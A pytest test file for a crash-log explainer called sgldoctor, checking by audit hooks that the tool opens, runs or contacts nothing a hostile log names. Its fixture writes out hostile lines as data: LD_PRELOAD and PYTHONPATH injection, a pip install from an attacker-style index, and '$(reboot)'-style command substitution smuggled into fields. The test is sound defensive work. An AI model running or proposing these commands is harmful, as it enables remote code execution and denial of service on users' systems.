"""A log that was written to harm its reader: it is text, and nothing in it is opened, run or believed."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
WATCH = """
import sys
seen = []
def hook(event, arguments):
    if event in ("open", "os.listdir", "os.scandir", "subprocess.Popen", "os.posix_spawn", "os.exec", "socket.connect",
                 "socket.getaddrinfo", "os.system", "ctypes.dlopen", "os.remove", "os.rename", "os.mkdir"):
        seen.append((event, str(arguments[0]), str(arguments[1]) if len(arguments) > 1 else ""))
sys.addaudithook(hook)
from sgldoctor.__main__ import main
status = main(sys.argv[1:])
import json
with open(sys.argv[-1] + ".seen", "w") as stream:
    json.dump(seen, stream)
sys.exit(status)
"""


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """A traceback, a launch line and prose that name files, addresses and commands of the attacker."""
    bait = tmp_path / "bait"
    bait.mkdir()
    for name in ("config.json", "model.safetensors", "rules.toml", "snapshot.json", "core.1", "x.py"):
        (bait / name).write_text("{}")
    path = tmp_path / "crash.log"
    path.write_text(
        f"+ python3 -m sglang.launch_server --model-path {bait} --port 1 --dist-init-addr 203.0.113.9:1\n"
        f"export SGLDOCTOR_RULES={bait} LD_PRELOAD={bait}/x.so PYTHONPATH={bait}\n"
        "Traceback (most recent call last):\n"
        f'  File "{bait}/x.py", line 1, in <module>\n    import torch\n'
        f"ImportError: {bait}/libcudnn.so.9: cannot open shared object file: No such file or directory\n"
        f"see file://{bait}/snapshot.json, http://203.0.113.9/x, core dumped to {bait}/core.1\n"
        "pip install --index-url http://203.0.113.9/simple torch==6.6.6; $(reboot) `reboot`\n"
        "No module named 'x; reboot'\n"
    )
    return path


def explained(log: Path, *arguments: str) -> tuple[dict[str, object], list[tuple[str, str, str]]]:
    command = [sys.executable, "-I", "-c", WATCH, "explain", "--format", "json", *arguments, str(log)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120, cwd=log.parent)
    assert done.returncode == 1, done.stderr
    with open(f"{log}.seen") as stream:
        return json.loads(done.stdout), [(event, what, how) for event, what, how in json.load(stream)]


def test_nothing_it_names_is_opened_run_or_called(log: Path) -> None:
    _, seen = explained(log)
    assert any(what == str(log) for _, what, _ in seen), "the watch does not see what is read"
    assert [entry for entry in seen if "bait" in entry[1] or "203.0.113.9" in entry[1]] == []
    assert [
        entry for entry in seen if entry[0] not in ("open", "os.listdir", "os.scandir", "os.mkdir", "os.rename")
    ] == []


def test_what_it_says_reaches_no_command(log: Path) -> None:
    report, _ = explained(log)
    commands = json.dumps([finding["fixes"] for finding in report["findings"]])  # type: ignore[attr-defined]
    assert "pip install" in commands, "there is no fix to look at"
    for hostile in ("203.0.113.9", "index-url", "6.6.6", "reboot", "bait"):
        assert hostile not in commands
